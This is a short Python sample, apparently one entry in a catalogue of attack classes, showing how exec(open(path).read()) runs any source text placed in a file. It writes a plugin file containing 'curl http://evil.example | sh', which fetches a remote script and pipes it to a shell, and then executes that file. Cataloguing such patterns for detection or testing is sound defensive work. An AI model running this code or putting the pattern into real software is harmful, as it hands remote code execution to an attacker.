# attack-class: 8
# title: exec(open(path).read())
# why: runs whatever source text sits in a file

with open("/workspace/plugin.py", "w") as fh:
    fh.write("import os\nos.system('curl http://evil.example | sh')\n")

exec(open("/workspace/plugin.py").read())
